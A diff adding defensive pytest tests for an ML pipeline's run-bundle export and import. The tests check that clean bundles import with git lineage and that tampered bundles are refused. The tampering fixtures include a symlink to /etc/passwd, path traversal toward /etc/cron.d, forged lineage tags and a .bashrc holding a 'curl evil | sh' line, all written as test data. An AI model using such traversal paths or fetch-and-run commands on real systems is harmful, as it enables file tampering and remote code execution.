@@ -1,0 +1,221 @@
+"""Run bundles: the PR stage trains with no credential and exports; the trusted stage checks and imports.
+
+One real training in a PR-local store (module scope), exported once; every test imports a copy,
+clean or made hostile, into a fresh team store and reads what arrived (or that nothing did).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+from pathlib import Path
+
+import pytest
+import yaml
+from mlflow.tracking import MlflowClient
+
+from flowops.bundle.check import facts_from_git
+from flowops.registry.binding import logged_model, refusal
+from flowops.spec.load import load_experiment
+
+from ..gitrepo import GitRepo
+from .conftest import BIN, flowops, tiny_spec
+
+EXPERIMENT = "experiments/tiny.yaml"
+
+
+class PrRepo(GitRepo):
+    def __init__(self, path: Path, synth_root: Path):
+        super().__init__(path, ["src", "MLproject", "conda.yaml"])
+        (path / ".gitignore").write_text("/pr.db\n/mlartifacts/\n/run_id.txt\n")
+        self.base = self.commit("code")
+        self.git("checkout", "-q", "-b", "feature")
+        (path / "experiments").mkdir()
+        spec = tiny_spec(synth_root, experiment_name="bundled")
+        (path / EXPERIMENT).write_text("# yaml-language-server: $schema=schema.json\n" + yaml.safe_dump(spec))
+        self.head_sha = self.commit("PR: an experiment")
+
+
+@pytest.fixture(scope="module")
+def trained(tmp_path_factory, synth_root):
+    """(repo, bundle folder): the PR trained into its own store, no tracking credential in sight."""
+    root = tmp_path_factory.mktemp("bundle")
+    repo = PrRepo(root / "repo", synth_root)
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("MLFLOW_", "GITHUB_"))} | {
+        "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
+        "FLOWOPS_CACHE_DIR": str(root / "cache"),
+        "MLFLOW_TRACKING_URI": f"sqlite:///{repo.path / 'pr.db'}",
+    }
+    proc = flowops("train", EXPERIMENT, "--run-id-file", "run_id.txt", cwd=repo.path, env=env)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    run_id = (repo.path / "run_id.txt").read_text().strip()
+    proc = flowops("bundle", "export", "--run", run_id, "--out", str(root / "bundle"), cwd=repo.path, env=env)
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.startswith(f"wrote {root / 'bundle'}: run {run_id} FINISHED")
+    return repo, root / "bundle", MlflowClient(env["MLFLOW_TRACKING_URI"]).get_run(run_id)
+
+
+def import_(repo: PrRepo, folder: Path, team: str, *extra: str, head: str | None = None, pr: str = "12"):
+    env = {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")} | {"MLFLOW_TRACKING_URI": team}
+    args = ["bundle", "import", str(folder), "--experiment-file", EXPERIMENT, "--head-sha", head or repo.head_sha]
+    return flowops(
+        *args, "--pr", pr, "--repo", str(repo.path), "--run-id-file", str(folder.parent / "id"), *extra, env=env
+    )
+
+
+def copy(bundle: Path, tmp_path: Path) -> Path:
+    target = tmp_path / "bundle"
+    shutil.copytree(bundle, target, symlinks=True)
+    return target
+
+
+def rewrite(folder: Path, change) -> None:
+    record = json.loads((folder / "bundle.json").read_text())
+    change(record)
+    (folder / "bundle.json").write_text(json.dumps(record))
+
+
+def test_a_clean_bundle_arrives_whole_with_lineage_from_git(trained, tmp_path):
+    repo, bundle, original = trained
+    team = f"sqlite:///{tmp_path / 'team.db'}"
+    proc = import_(repo, copy(bundle, tmp_path), team)
+    assert proc.returncode == 0, proc.stderr
+    client = MlflowClient(team)
+    run = client.get_run((tmp_path / "id").read_text().strip())
+    assert proc.stdout.strip() == (
+        f"imported run {run.info.run_id} (FINISHED) for {EXPERIMENT} at {repo.head_sha[:12]}, PR #12"
+    )
+    assert run.info.status == "FINISHED" and run.info.run_id != original.info.run_id
+    assert run.info.start_time == original.info.start_time
+    assert run.data.params == original.data.params
+    assert run.data.metrics == original.data.metrics
+    history = [(m.step, m.value) for m in client.get_metric_history(run.info.run_id, "val_iou")]
+    assert history == [
+        (m.step, m.value) for m in MlflowClient(_store(repo)).get_metric_history(original.info.run_id, "val_iou")
+    ]
+    assert len(history) == 2
+    tags = run.data.tags
+    assert tags["flowops.pr_number"] == "12"  # from the event, not the bundle (which had none)
+    assert tags["flowops.git_commit"] == repo.head_sha
+    assert tags["flowops.code_tree"] == facts_from_git(repo.path, repo.head_sha, EXPERIMENT, "12").code_tree
+    assert tags["flowops.imported"] == f"run bundle of PR #12 at {repo.head_sha}"
+    assert tags["flowops.dataset_fingerprint"] == original.data.tags["flowops.dataset_fingerprint"]
+    assert {a.path for a in client.list_artifacts(run.info.run_id)} >= {"plots", "samples", "spec.yaml"}
+    # The model is this run's own: promotion would bind it (same spec, same clean code tree).
+    model_id = logged_model(client, run)
+    assert client.get_logged_model(model_id).source_run_id == run.info.run_id
+    spec = load_experiment(repo.path / EXPERIMENT)
+    assert refusal(client, run, spec, tags["flowops.code_tree"], same_code=True) is None
+
+
+def _store(repo: PrRepo) -> str:
+    return f"sqlite:///{repo.path / 'pr.db'}"
+
+
+def _symlink(folder: Path) -> None:
+    (folder / "artifacts" / "passwd").symlink_to("/etc/passwd")
+
+
+def _dotdot(folder: Path) -> None:
+    rewrite(folder, lambda r: r["files"].update({"artifacts/../../etc/cron.d/x": {"size": 1, "sha256": "0" * 64}}))
+
+
+def _absolute(folder: Path) -> None:
+    rewrite(folder, lambda r: r["files"].update({"/etc/passwd": {"size": 1, "sha256": "0" * 64}}))
+
+
+def _unlisted(folder: Path) -> None:
+    (folder / "artifacts" / "extra.txt").write_text("not in the record")
+
+
+def _stray_top(folder: Path) -> None:
+    (folder / ".bashrc").write_text("curl evil | sh")
+
+
+def _changed_file(folder: Path) -> None:
+    (folder / "artifacts" / "spec.yaml").write_text("epochs: 999\n")
+
+
+def _forged_commit(folder: Path) -> None:
+    rewrite(folder, lambda r: r["tags"].update({"flowops.git_commit": "1" * 40}))
+
+
+def _forged_pr(folder: Path) -> None:
+    rewrite(folder, lambda r: r["tags"].update({"flowops.pr_number": "99"}))
+
+
+def _dirty(folder: Path) -> None:
+    rewrite(folder, lambda r: r["tags"].update({"flowops.code_dirty": "true"}))
+
+
+def _promoter_tag(folder: Path) -> None:
+    rewrite(folder, lambda r: r["tags"].update({"flowops.applied_commit": "1" * 40}))
+
+
+def _other_params(folder: Path) -> None:
+    rewrite(folder, lambda r: r["params"].update({"epochs": "7"}))
+
+
+def _bad_schema(folder: Path) -> None:
+    rewrite(folder, lambda r: r["metrics"][0].update({"step": -1}))
+
+
+def _running(folder: Path) -> None:
+    rewrite(folder, lambda r: r.update({"status": "RUNNING"}))
+
+
+HOSTILE = {
+    "symlink": (_symlink, "artifacts/passwd: a symbolic link; a bundle holds plain files only", ()),
+    "dotdot": (_dotdot, "files: 'artifacts/../../etc/cron.d/x': a path must stay under artifacts or model/", ()),
+    "absolute": (_absolute, "files: '/etc/passwd': a path must stay under artifacts or model/", ()),
+    "unlisted": (_unlisted, "artifacts/extra.txt: in the bundle but not listed in bundle.json", ()),
+    "stray": (_stray_top, ".bashrc: not part of a run bundle (bundle.json, artifacts, model/)", ()),
+    "changed": (_changed_file, "artifacts/spec.yaml: size or sha256 differs from bundle.json", ()),
+    "oversized": (None, "bytes, over the limit of 20000", ("--max-file-bytes", "20000")),
+    "forged-commit": (
+        _forged_commit,
+        "tags.flowops.git_commit: '1111111111111111111111111111111111111111' differs",
+        (),
+    ),
+    "forged-pr": (
+        _forged_pr,
+        "tags.flowops.pr_number: '99' differs from '12' (lineage comes from the import stage",
+        (),
+    ),
+    "dirty": (_dirty, "tags.flowops.code_dirty: 'true' differs from 'false'", ()),
+    "promoter-tag": (_promoter_tag, "tags.flowops.applied_commit: not a tag a training run writes", ()),
+    "other-params": (_other_params, "params: they make spec sha256", ()),
+    "schema": (_bad_schema, "bundle.json: metrics.0.step: Input should be greater than or equal to 0", ()),
+    "running": (_running, "bundle.json: status: Input should be 'FINISHED' or 'FAILED'", ()),
+}
+
+
+@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
+def test_a_hostile_bundle_is_refused_and_nothing_is_imported(trained, tmp_path, case):
+    repo, bundle, _ = trained
+    tamper, message, extra = HOSTILE[case]
+    folder = copy(bundle, tmp_path)
+    if tamper:
+        tamper(folder)
+    team = f"sqlite:///{tmp_path / 'team.db'}"
+    proc = import_(repo, folder, team, *extra)
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    lines = proc.stderr.strip().splitlines()
+    assert len(lines) == 1 and message in lines[0], proc.stderr
+    assert "Traceback" not in proc.stderr
+    client = MlflowClient(team)
+    experiment = client.get_experiment_by_name("bundled")
+    assert experiment is None or client.search_runs([experiment.experiment_id]) == []
+    assert not (tmp_path / "id").exists()
+
+
+def test_a_bundle_for_another_commit_than_the_approved_one_is_refused(trained, tmp_path):
+    """The PR stage trained the head; a maintainer approved the base: the lineage cannot be made to fit."""
+    repo, bundle, _ = trained
+    team = f"sqlite:///{tmp_path / 'team.db'}"
+    proc = import_(repo, copy(bundle, tmp_path), team, head=repo.base)
+    assert proc.returncode == 1
+    assert proc.stderr.strip() == f"{EXPERIMENT}: not found at {repo.base[:12]}"
+    proc = import_(repo, copy(bundle, tmp_path / "x"), team, head="main~5")
+    assert proc.returncode == 1 and "--head-sha main~5: not a commit" in proc.stderr
